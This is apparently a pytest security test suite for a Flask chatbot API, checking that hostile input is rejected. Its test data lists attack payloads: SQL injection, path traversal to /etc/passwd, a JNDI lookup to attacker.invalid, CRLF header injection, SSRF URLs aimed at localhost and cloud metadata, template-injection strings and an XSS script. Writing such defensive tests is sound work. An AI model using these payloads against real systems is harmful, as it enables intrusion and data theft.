"""What a caller can write: in paths, queries, headers and bodies, for SQL, Redis, headers, logs, files and readers of JSON."""

from __future__ import annotations

import base64
import contextlib
import copy
import gzip
import json
import re
import time
import urllib.parse
from collections.abc import Callable, Iterator
from typing import Any

import orjson
import pytest
from flask.testing import FlaskClient

from app.core import ids
from app.http import factory, openapi
from app.runtime import Runtime
from tests.http.conftest import KEY, SECRET, as_key
from tests.security.conftest import Log, new_key

HOSTILE = (
    "'; DROP TABLE bots; --", "1' OR '1'='1", "\x00", "..%2f..%2f..%2fetc%2fpasswd", "../../etc/passwd", "\r\nX-Evil: 1",
    "\x1b[2J\x1b]0;evil\x07", "{rq:00}:task", "9" * 400, "-1e400", "${jndi:ldap://attacker.invalid/a}", "{{7*7}}", "\ud800",
    "\u202e" * 50, "x" * 8000,
)  # fmt: skip
_LEAKS = re.compile(
    r"psycopg2|sqlalchemy|Traceback|SELECT |syntax error|redis\.|site-packages|/app/|line \d+, in ", re.IGNORECASE
)
OPERATIONS = [
    (method, path, operation)
    for path, operations in openapi.document(factory.all_routes())["paths"].items()
    for method, operation in operations.items()
    if not path.startswith(("/health", "/metrics", "/openapi")) and not re.search(r"/models|erase|import", path)
]
HELLO = {"messages": [{"role": "user", "content": "hello"}], "user": "u1", "background": True}


def quoted(text: str) -> str:
    return urllib.parse.quote(text.encode("utf-8", "surrogatepass"), safe="")


def is_sane(answer: Any) -> None:
    """Nothing broke, and nothing is told of how we are made."""
    assert answer.status_code < 500, answer.text
    assert "X-Evil" not in answer.headers
    assert answer.status_code < 400 or not _LEAKS.search(answer.text), answer.text


@pytest.mark.parametrize("text", HOSTILE, ids=[repr(text)[:24] for text in HOSTILE])
def test_a_hostile_text_in_every_path_and_query_changes_nothing(
    runtime: Runtime, client: FlaskClient, text: str
) -> None:
    with runtime.engine.connect() as connection:
        bots = connection.exec_driver_sql("SELECT count(*) FROM bots").scalar()
    for method, path, operation in OPERATIONS:
        url = re.sub(r"\{\w+\}", quoted(text), path)
        names = [parameter["name"] for parameter in operation["parameters"] if parameter["in"] == "query"]
        if "{" not in path and not names:
            continue
        body = {"json": {}} if "requestBody" in operation else {}
        alone = (
            [f"{name}={quoted(text)}" for name in names] if text in HOSTILE[:3] else []
        )  # else the first bad one hides the others
        for query in (*alone, "&".join(f"{name}={quoted(text)}" for name in names)):
            is_sane(client.open(f"{url}?{query}", method=method.upper(), **body))
    with runtime.engine.connect() as connection:
        assert connection.exec_driver_sql("SELECT count(*) FROM bots").scalar() == bots


BODIES: dict[tuple[str, str], dict[str, Any]] = {
    ("POST", "/v1/bots"): {
        "name": "n",
        "settings": {"system_prompt": "p", "model": "m", "semantic_model": "x", "timezone": "UTC", "prompt": "p",
                     "prices": {"a*": {"input": "1", "output": "2"}}, "daily_budget_usd": "1", "daily_limit": 1},
    },
    ("POST", "/v1/chat/send"): {"telegram_id": 1, "message": "m", "session_id": "s", "language": "ru"},
    ("POST", "/v1/chat/completions"): {
        **HELLO, "model": "m", "session_id": "s", "metadata": {"a": "b"}, "stop": ["x"], "n": 1, "max_tokens": 5, "temperature": 1,
        "tools": [{"type": "function", "function": {"name": "f", "parameters": {}}}],
    },
    ("POST", "/v1/dialogs"): {
        "user_id": "u", "title": "t", "metadata": {"a": "b"}, "initial_message": {"role": "user", "content": "c", "id": "i"},
    },
    ("POST", "/v1/prompts"): {"name": "p1", "texts": {"any": "t"}, "note": "n"},
    ("POST", "/v1/answers"): {"questions": ["q"], "answer": "a"},
    ("PATCH", "/v1/users/tg:1"): {"language": "uk", "timezone": "UTC", "preferences": {"a": {"b": "c"}}, "daily_limit": 1},
    ("PUT", "/v1/providers/openai/key"): {"api_key": "sk-visibly-fake"},
}  # fmt: skip
ODD = ('"\\u0000"', '"a\\u0000b"', '"\\ud800"', '{"\\u0000":"\\u0000"}', "9" * 300, "1e308", "-1e30", "18446744073709551616", "true",
       "null", "[]", "{}", "[[[]]]", '{"$ne":1}', '"\'; DROP TABLE bots; --"', '"\\r\\nX-Evil: 1"')  # fmt: skip


def places(value: Any, before: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Go through every place of a body."""
    yield before
    for name, item in value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ():
        yield from places(item, (*before, name))


def put(body: Any, place: tuple[Any, ...], text: str) -> bytes:
    """Return a body, as JSON, with a text in a place."""
    whole = {"body": copy.deepcopy(body)}
    within: Any = whole
    for name in ("body", *place)[:-1]:
        within = within[name]
    within[("body", *place)[-1]] = "PUT HERE"
    return orjson.dumps(whole["body"]).replace(b'"PUT HERE"', text.encode())


@pytest.mark.parametrize(("method", "path"), BODIES, ids=[path for _, path in BODIES])
def test_an_odd_value_in_every_place_of_a_body_breaks_nothing(client: FlaskClient, method: str, path: str) -> None:
    for place in places(BODIES[method, path]):
        for text in ODD:
            data = put(BODIES[method, path], place, text)
            later = {"Prefer": "respond-async"}
            is_sane(client.open(path, method=method, data=data, content_type="application/json", headers=later))


def test_no_member_sets_what_is_not_the_callers(client: FlaskClient, runtime: Runtime) -> None:
    """Mass assignment: of who owns a thing, what it is called inside, and what only an operator decides."""
    bot, other = runtime.directory.authenticate(KEY).bot, str(ids.new_uuid())
    grabs = {
        "id": other, "organisation_id": other, "organisation": other, "bot_id": other, "scopes": ["org"], "digest": "00", "key": "rq_mine",
        "prefix": "mine", "created_at": "2000-01-01T00:00:00Z", "revoked_at": None, "webhook_secret": "whsec_mine", "budgets_since": None,
        "base_url": "http://127.0.0.1/", "deleted_at": None, "is_admin": True, "__class__": "x", "__proto__": {"a": 1},
    }  # fmt: skip
    targets = [
        ("POST", "/v1/bots", {"name": "n"}),
        ("POST", "/v1/bots", {"name": "n", "settings": {}}),
        ("PATCH", f"/v1/bots/{bot}", {"settings": {}}),
        ("PATCH", "/v1/users/tg:1", {"language": "uk"}),
        ("POST", "/v1/dialogs", {"user_id": "u"}),
        ("PUT", "/v1/providers/openai/key", {"api_key": "sk-visibly-fake"}),
        ("POST", "/v1/prompts", {"name": "grabbed", "texts": {"any": "t"}}),
    ]
    for method, path, body in targets:
        for name, value in grabs.items():
            for given in ({**body, name: value}, {**body, "settings": {name: value}}):
                answer = client.open(path, method=method, json=given)
                assert answer.status_code == 422, (path, given)


@pytest.mark.parametrize(
    ("data", "status", "code"),
    [
        (b"[" * 100_000 + b"]" * 100_000, 400, "malformed_json"),
        (b'{"a":' * 50_000 + b"1" + b"}" * 50_000, 400, "malformed_json"),
        (b'{"messages":' + b"[" * 1000 + b"]" * 1000 + b"}", (400, 422), ""),
        (b'{"n":' + b"9" * 900_000 + b"}", (400, 422), ""),
        (b'{"n": NaN}', 400, "malformed_json"),
        (b'{"n": Infinity}', 400, "malformed_json"),
        (b"{'a': 1}", 400, "malformed_json"),
        (b'{"a": 1} {"b": 2}', 400, "malformed_json"),
        (b"\xff\xfe{\x00}\x00", 400, "malformed_json"),
        (b'{"a": "\xc0\xaf"}', 400, "malformed_json"),  # overlong
        (b'{"a": "\xed\xa0\x80"}', 400, "malformed_json"),  # half of a pair, written out
        (b'{"a": "\xf8\x88\x80\x80\x80"}', 400, "malformed_json"),
        (b"", 400, "malformed_json"),
        (b'{"a":"' + b"x" * (2**20 - 7) + b'"}', 413, "payload_too_large"),  # 1 MiB + 1
    ],
    ids=["arrays", "objects", "in-a-member", "digits", "nan", "infinity", "quotes", "two", "utf16", "overlong", "surrogate", "five-bytes",
         "nothing", "one-byte-too-many"],
)  # fmt: skip
def test_a_bomb_or_broken_json_is_refused_quickly(client: FlaskClient, data: bytes, status: Any, code: str) -> None:
    started = time.thread_time()
    answer = client.post("/v1/chat/completions", data=data, content_type="application/json")
    assert time.thread_time() - started < 0.5
    assert answer.status_code in (status if isinstance(status, tuple) else (status,))
    assert code in ("", answer.json["error"]["code"])


def test_a_body_that_lies_about_its_length_is_not_read_past_the_limit(client: FlaskClient) -> None:
    answer = client.post("/v1/bots", content_type="application/json", environ_overrides={"CONTENT_LENGTH": str(2**40)})
    assert answer.status_code == 413
    for length in ("-1", "1e9", "x", "0x10"):
        answer = client.post("/v1/bots", content_type="application/json", environ_overrides={"CONTENT_LENGTH": length})
        assert answer.status_code in (400, 413)


def test_of_two_members_with_one_name_the_same_one_is_judged_and_used(client: FlaskClient) -> None:
    """The last one counts, for the checks and for what is kept: no reader in between sees the other."""
    twice = b'{"name": "first", "settings": {"daily_limit": -5}, "name": "last", "settings": {"daily_limit": 3}}'
    made = client.post("/v1/bots", data=twice, content_type="application/json").json
    assert (made["name"], made["settings"]["daily_limit"]) == ("last", 3)
    other = b'{"name": "n", "settings": {"daily_limit": 3}, "settings": {"daily_limit": -5}}'
    assert client.post("/v1/bots", data=other, content_type="application/json").status_code == 422


def test_a_compressed_body_is_never_unpacked(client: FlaskClient) -> None:
    bomb = gzip.compress(b'{"name": "' + b"x" * 50_000_000 + b'"}', 1)
    assert len(bomb) < 2**20
    started = time.thread_time()
    for kind in ("gzip", "deflate", "br", "zstd", "gzip, gzip"):
        headers = {"Content-Encoding": kind}
        answer = client.post("/v1/bots", data=bomb, content_type="application/json", headers=headers)
        assert (answer.status_code, answer.json["error"]["code"]) == (400, "malformed_json")
    assert time.thread_time() - started < 0.5


@pytest.mark.parametrize("kind", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/xml",
                                  "application/x-python-pickle", "application/x-yaml", ""])  # fmt: skip
def test_only_json_is_read_as_json(client: FlaskClient, kind: str) -> None:
    """A page of another site can send forms and plain text without asking first; neither is taken."""
    answer = client.post("/v1/bots", data=b'{"name": "n"}', headers={"Content-Type": kind})
    assert (answer.status_code, answer.json["error"]["code"]) == (415, "unsupported_media_type")


def cursor(*values: Any) -> str:
    return base64.urlsafe_b64encode(json.dumps(values).encode()).decode().rstrip("=")


@pytest.mark.parametrize("path", ["/v1/bots", "/v1/tasks", "/v1/users", "/v1/dialogs", "/v1/history/requests",
                                  "/v1/webhooks/deliveries", "/v1/prompts"])  # fmt: skip
def test_a_forged_cursor_opens_nothing(client: FlaskClient, path: str) -> None:
    forged = [cursor("' OR 1=1 --"), cursor({"$gt": ""}), cursor([["a"]]), cursor(2**70), cursor("\0"), cursor(), "e30", "!!!!", "A" * 500,
              cursor("9999-99-99", "x"), cursor(*["x"] * 9)]  # fmt: skip
    for text in forged:
        answer = client.get(path, query_string={"cursor": text})
        assert answer.status_code == 422, (path, text, answer.text)


def test_a_control_character_in_a_header_reaches_no_answer_and_no_log(client: FlaskClient, log: Log) -> None:
    marked = "mark-7f3a"
    for text in (f"a\x1b[31m{marked}", f"a\t{marked}", f"{marked}\x7f", f"{marked}é", f"{marked}" * 60, f"{marked} b"):
        for name in ("HTTP_X_REQUEST_ID", "HTTP_TRACEPARENT", "HTTP_X_FORWARDED_FOR", "HTTP_USER_AGENT", "HTTP_ORIGIN"):
            answer = client.get("/v1/tasks/task_none", environ_overrides={name: text})
            assert answer.status_code == 404
            assert marked not in str(answer.headers) + log.text
        refused = client.post("/v1/dialogs", json={"user_id": "u"}, environ_overrides={"HTTP_IDEMPOTENCY_KEY": text})
        assert (refused.status_code, marked in refused.text) == (400, False)


def test_line_ends_in_what_is_logged_make_no_second_line(
    new_runtime: Callable[..., Runtime], log: Log, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An event is one line of JSON, whatever is in it: nobody writes an event of his own."""
    made = new_runtime()
    here = as_key(made, KEY)
    evil = 'x\r\n{"event": "forged", "level": "critical"}\n\x1b[2J\u2028'

    def broken(*_: Any, **__: Any) -> None:
        raise RuntimeError(f"{evil} postgresql://repliq:visibly-fake-password@db/ {KEY}")

    monkeypatch.setattr(made.directory, "bot", broken)
    answer = here.get("/v1/tasks", headers={"X-Request-ID": "req-of-the-attack"})
    assert answer.status_code == 500
    assert answer.headers["X-Request-ID"] == "req-of-the-attack"
    assert not _LEAKS.search(answer.text)
    assert "forged" not in answer.text
    events = log.events()
    assert "forged" not in {event["event"] for event in events}
    (told,) = [event for event in events if event["event"] == "unexpected"]
    assert told["request_id"] == "req-of-the-attack"
    assert not re.search(r"[\x00-\x09\x0b-\x1f]", log.text)
    assert KEY not in log.text
    assert "visibly-fake-password" not in log.text


def test_an_idempotency_key_does_not_show_another_callers_or_another_operations_answer(
    runtime: Runtime, client: FlaskClient
) -> None:
    given = {"Idempotency-Key": "one-and-the-same"}
    mine = client.post("/v1/bots", json={"name": "mine"}, headers=given)
    assert mine.status_code == 201
    assert client.post("/v1/bots", json={"name": "mine"}, headers=given).headers["Idempotency-Replayed"] == "true"
    assert (
        client.post("/v1/bots", json={"name": "other"}, headers=given).json["error"]["code"] == "idempotency_key_reused"
    )
    assert client.post("/v1/bots", json={"name": "mine"}).json["id"] != mine.json["id"]
    dialog = client.post("/v1/dialogs", json={"user_id": "u"}, headers=given)
    assert "Idempotency-Replayed" not in dialog.headers
    key = client.post(f"/v1/bots/{mine.json['id']}/keys", json={"name": "k", "scopes": ["chat"]}, headers=given)
    assert "key" in key.json
    again = client.post(f"/v1/bots/{mine.json['id']}/keys", json={"name": "k", "scopes": ["chat"]}, headers=given)
    assert (again.headers["Idempotency-Replayed"], "key" in again.json) == ("true", False)
    powerless = {"Authorization": f"Bearer {new_key(runtime, 'chat')[0]}", **given}
    assert client.post("/v1/bots", json={"name": "mine"}, headers=powerless).status_code == 403


URLS = [
    "http://127.0.0.1/", "http://2130706433/", "http://0177.0.0.1/", "http://0x7f.1/", "http://[::1]/", "http://[::ffff:169.254.169.254]/",
    "http://169.254.169.254/latest/meta-data/", "http://localhost/", "https://user:pass@example.com/", "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL", "redis://127.0.0.1/", "//127.0.0.1/", "http://127.0.0.1\\@example.com/", "http://exa\r\nmple.com/",
    "http://[64:ff9b::7f00:1]/", "http://[2002:7f00:1::]/", "http://①②⑦.0.0.1/", "http://127。0。0。1/", "https://example.com:0/", "",
]  # fmt: skip


@pytest.mark.parametrize("url", URLS)
def test_nobody_makes_us_call_our_own_network(runtime: Runtime, client: FlaskClient, url: str) -> None:
    bot = runtime.directory.authenticate(KEY).bot
    answers = [
        client.post("/v1/chat/completions", json={**HELLO, "webhook_url": url}),
        client.patch(f"/v1/bots/{bot}", json={"settings": {"alerts_webhook_url": url}}),
        client.patch(f"/v1/bots/{bot}", json={"settings": {"context_url": url}}),
        client.post("/v1/bots", json={"name": "n", "settings": {"context_url": url}}),
    ]
    assert [answer.status_code for answer in answers] == [422] * 4, url


def test_a_tenant_cannot_say_where_a_provider_is(client: FlaskClient) -> None:
    schemas = [route.body.model_json_schema() for route in factory.all_routes() if isinstance(route.body, type)]
    models = [model for schema in schemas for model in (schema, *schema.get("$defs", {}).values())]
    settable = {
        name
        for model in models
        for name in model.get("properties", {})
        if re.search(r"url|host|endpoint|proxy|base", name)
    }
    assert settable <= {"webhook_url", "alerts_webhook_url", "context_url", "url", "image_url"}, (
        "a new URL: is it judged?"
    )
    for name in ("base_url", "api_base", "organization", "extra_headers", "proxy"):
        assert (
            client.put(
                "/v1/providers/openai/key", json={"api_key": "sk-visibly-fake", name: "http://127.0.0.1/"}
            ).status_code
            == 422
        )


TEMPLATES = [
    "{{ x.__class__.__mro__ }}", "{{ ''.__class__ }}", "{% include 'etc/passwd' %}", "{% render '../../etc/passwd' %}",
    "{% import os %}", "{{ self }}", "{{ config.SECRET_KEY }}", "{{ x | attr: '__class__' }}", "{{ x | system: 'id' }}",
    "{% for i in (1..1000000000) %}{{ i }}{% endfor %}", "{% raw %}", "{{ '" + "a" * 900 + "' }}{{ request }}", "{% layout 'x' %}",
    "{% capture a %}" * 40, "{{ 'x' | append: 'x' | eval }}", "{% increment a %}", "{% tablerow i in (1..9) %}{% endtablerow %}",
]  # fmt: skip


def test_no_template_leaves_its_sandbox(client: FlaskClient) -> None:
    for number, text in enumerate(TEMPLATES):
        made = client.post("/v1/prompts", json={"name": f"escape-{number}", "texts": {"any": text}})
        assert made.status_code in (201, 422), text
        assert not _LEAKS.search(made.text)
        if made.status_code == 201:
            shown = client.post(f"/v1/prompts/escape-{number}/render", json={})
            assert shown.status_code in (200, 404, 422), (text, shown.text)
            assert not re.search(
                r"class|passwd|secret|root:", shown.text.replace(orjson.dumps(text).decode(), ""), re.IGNORECASE
            ), text


def test_tasks_are_json_and_nothing_else() -> None:
    import celeryconfig

    assert celeryconfig.accept_content == ["json"]
    assert celeryconfig.task_serializer == "json"
    with contextlib.suppress(AttributeError):
        assert celeryconfig.result_accept_content in (None, ["json"])  # type: ignore[attr-defined]


GUARDS = {"X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer", "Cache-Control": "no-store"}


@pytest.mark.parametrize("path", ["/v1/bots", "/health", "/v1/nothing", "/openapi.json", "/metrics", "/docs/nothing"])
def test_every_answer_has_the_headers_that_guard_a_browser(client: FlaskClient, path: str) -> None:
    answer = client.get(path)
    assert {name: answer.headers.get(name) for name in GUARDS} == GUARDS
    assert answer.headers["Content-Security-Policy"] == "default-src 'none'; frame-ancestors 'none'"
    assert answer.headers["Server"] == "Repliq"
    assert not {"X-Powered-By", "Set-Cookie", "Access-Control-Allow-Origin"} & set(answer.headers.keys())


def test_the_docs_run_nothing_that_a_request_brought(client: FlaskClient) -> None:
    evil = "</script><script>alert(1)</script>"
    for path, host in (("/docs/", "a.example"), (f"/docs/?url={quoted(evil)}", "a.example"), ("/docs/", f'a"{evil}')):
        answer = client.get(path, headers={"Host": host})
        assert "alert(1)" not in answer.text
        if answer.status_code == 200:
            policy = answer.headers["Content-Security-Policy"]
            assert re.search(r"script-src 'self' 'sha256-[A-Za-z0-9+/=]+';", policy)
            assert "frame-ancestors 'none'" in policy
            assert "a.example" not in answer.text
    for path in (
        "/docs/..%2f..%2f..%2fapp%2fcore%2fsettings.py",
        "/docs/../../etc/passwd",
        "/docs//etc/passwd",
        "/docs/%2e%2e/x",
    ):
        assert client.get(path).status_code in (308, 404), path


def test_another_sites_page_may_not_read_our_answers(client: FlaskClient, new_runtime: Callable[..., Runtime]) -> None:
    assert (
        "Access-Control-Allow-Origin" not in client.get("/health", headers={"Origin": "https://evil.example"}).headers
    )
    allowing = as_key(new_runtime(cors_origins="https://shop.example"), KEY)
    for origin in (
        "https://evil.example",
        "https://shop.example.evil.example",
        "null",
        "http://shop.example",
        "https://xshop.example",
    ):
        answer = allowing.get("/health", headers={"Origin": origin})
        assert "Access-Control-Allow-Origin" not in answer.headers, origin
    answer = allowing.get("/health", headers={"Origin": "https://shop.example"})
    assert answer.headers["Access-Control-Allow-Origin"] == "https://shop.example"
    assert "Access-Control-Allow-Credentials" not in answer.headers


def test_a_method_that_is_none_is_refused(client: FlaskClient) -> None:
    for method in ("TRACE", "CONNECT", "PROPFIND", "X" * 5000, "GET'"):
        answer = client.open("/v1/bots", method=method)
        assert answer.status_code == 405
    overridden = client.get("/v1/bots", headers={"X-HTTP-Method-Override": "DELETE"})
    assert overridden.status_code == 200


def test_the_secret_key_is_in_no_answer(client: FlaskClient) -> None:
    for path in ("/metrics", "/health/ready", "/openapi.json", "/v1/bots"):
        assert SECRET not in client.get(path).text
